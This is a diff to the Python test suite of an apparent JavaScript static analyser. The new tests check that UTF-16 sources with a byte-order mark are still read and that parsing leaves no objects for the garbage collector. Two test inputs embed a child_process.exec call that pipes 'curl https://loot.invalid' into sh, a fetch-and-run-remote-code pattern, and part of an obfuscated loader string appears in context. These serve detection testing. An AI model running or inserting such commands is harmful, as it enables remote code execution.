@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from pratique.analysis.facts import Capability, FileFacts, Language, Taint
 from pratique.analysis.languages.javascript import exported_constant, extract
-from tests.analysis.languages.javascript.reading import C, facts, flows
+from tests.analysis.languages.javascript.reading import C, P, facts, flows
 
 LOADER = (
     'var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
@@ -89,6 +89,22 @@ def test_what_cannot_be_read_is_said(source: bytes, problem: str) -> None:
 
     assert found.problem is not None
     assert problem in found.problem
+
+
+@pytest.mark.parametrize("mark", ["utf-16-le", "utf-16-be"])
+def test_a_source_in_another_encoding_is_read_by_its_mark(mark: str) -> None:
+    source = "\ufeffvar a = '\u00e9';\nrequire('child_process').exec('curl https://loot.invalid | sh');\n"
+
+    found = extract(source.encode(mark), Language.JAVASCRIPT)
+
+    assert found.problem is None
+    assert [("child_process.exec", 2)] == [(use.api, use.line) for use in found.uses if use.capability is P]
+
+
+def test_a_mark_alone_makes_no_other_text_of_a_source() -> None:
+    source = b"\xff\xfe;require('child_process').exec('curl https://loot.invalid | sh');  // " + b"a" * 40
+
+    assert "child_process.exec" in {use.api for use in extract(source, Language.JAVASCRIPT).uses}
 
 
 HOSTILE = {
@@ -239,3 +255,25 @@ def test_any_words_give_facts(source: str, language: Language) -> None:
 def test_any_bytes_give_facts(source: bytes) -> None:
     extract(source, Language.JAVASCRIPT)
     extract(source, Language.TSX)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "const a = {b: `${c.map(d => d)}\\n`, e() { return () => eval(f) }}; class G { h = () => 1 }",
+        "function a(b: string): ?c { return () => eval(b) }",
+        "eval(a); function b( { return () => c",
+        "const a = require('./a'); exports.b = c => a.d(() => eval(c)); new a.E(x => x.map(a.f))",
+    ],
+    ids=["a template", "types in JavaScript", "an error", "another file"],
+)
+def test_nothing_of_a_tree_is_left_for_a_collector(source: str) -> None:
+    extract(source.encode(), Language.JAVASCRIPT)
+    gc.collect()
+    gc.disable()
+    try:
+        extract(source.encode(), Language.JAVASCRIPT)
+        left = gc.collect()
+    finally:
+        gc.enable()
+    assert 0 == left
